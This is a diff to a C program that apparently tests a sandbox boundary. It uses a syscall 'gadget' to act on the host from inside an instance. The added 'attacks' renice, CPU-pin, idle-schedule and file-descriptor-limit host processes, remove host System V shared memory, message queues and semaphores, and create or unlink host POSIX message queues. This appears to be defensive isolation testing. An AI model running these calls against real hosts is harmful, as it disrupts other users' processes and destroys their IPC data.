@@ -18,6 +18,11 @@
  *   netlink-addr ADDR, netlink-alias TEXT RTM_NEWADDR ADDR/32 on lo; lo's ifalias = TEXT
  *   abstract NAME                         connect to host abstract socket @NAME
  *   tiocsti                               type a character into the terminal on stdin
+ *   renice PID, affinity PID, idle PID,   nice 19, CPU 0 only, SCHED_IDLE, the idle I/O class,
+ *   ioprio PID, prlimit PID               RLIMIT_NOFILE 16 for a host process of the same user
+ *   shm-remove ID, msg-remove ID,         IPC_RMID of a host System V object
+ *   sem-remove ID
+ *   mq-create NAME, mq-unlink NAME        a host POSIX message queue (/NAME)
  * The gadget's own check: "selftest" runs getppid through it (the host pid, not the vpid).
  */
 #define _GNU_SOURCE
@@ -37,6 +42,11 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/ipc.h>
+#include <sys/msg.h>
+#include <sys/resource.h>
+#include <sys/sem.h>
+#include <sys/shm.h>
 #include <sys/prctl.h>
 #include <sys/ptrace.h>
 #include <sys/socket.h>
@@ -178,8 +188,8 @@ int main(int argc, char **argv)
     plain = !strncmp(attack, "plain-", 6);
     const char *what = attack + (plain ? 6 : 0); /* the attack without its prefix */
     const char *arg = argc > 2 ? argv[2] : "";
-    gadget = find_gadget();
-    if (!gadget) {
+    gadget = plain ? 0 : find_gadget();
+    if (!plain && !gadget) {
         printf("no gadget found\n");
         return 1;
     }
@@ -279,6 +289,37 @@ int main(int argc, char **argv)
         char c = 'Z';
         return report(attack, host_call(SYS_ioctl, 0, TIOCSTI, (long)&c, 0, 0, 0));
     }
+    /* a host process of the instance's host user: the same owner, so only the boundary stops these */
+    long victim = atol(arg);
+    if (!strcmp(what, "renice"))
+        return report(attack, host_call(SYS_setpriority, PRIO_PROCESS, victim, 19, 0, 0, 0));
+    if (!strcmp(what, "affinity")) {
+        unsigned long cpu0 = 1;
+        return report(attack, host_call(SYS_sched_setaffinity, victim, sizeof(cpu0), (long)&cpu0, 0, 0, 0));
+    }
+    if (!strcmp(what, "idle")) {
+        struct sched_param none = {0};
+        return report(attack, host_call(SYS_sched_setscheduler, victim, SCHED_IDLE, (long)&none, 0, 0, 0));
+    }
+    if (!strcmp(what, "ioprio"))
+        return report(attack, host_call(SYS_ioprio_set, 1 /* IOPRIO_WHO_PROCESS */, victim, 3 << 13 /* idle */, 0, 0, 0));
+    if (!strcmp(what, "prlimit")) {
+        struct rlimit few = {16, 16};
+        return report(attack, host_call(SYS_prlimit64, victim, RLIMIT_NOFILE, (long)&few, 0, 0, 0));
+    }
+    /* the host's IPC objects (the instance's are the leader's) */
+    if (!strcmp(what, "shm-remove"))
+        return report(attack, host_call(SYS_shmctl, atol(arg), IPC_RMID, 0, 0, 0, 0));
+    if (!strcmp(what, "msg-remove"))
+        return report(attack, host_call(SYS_msgctl, atol(arg), IPC_RMID, 0, 0, 0, 0));
+    if (!strcmp(what, "sem-remove"))
+        return report(attack, host_call(SYS_semctl, atol(arg), 0, IPC_RMID, 0, 0, 0));
+    if (!strcmp(what, "mq-create")) {
+        long fd = host_call(SYS_mq_open, (long)arg, O_RDWR | O_CREAT | O_EXCL, 0600, 0, 0, 0);
+        return report(attack, fd);
+    }
+    if (!strcmp(what, "mq-unlink"))
+        return report(attack, host_call(SYS_mq_unlink, (long)arg, 0, 0, 0, 0, 0));
     printf("unknown attack %s\n", attack);
     return 2;
 }
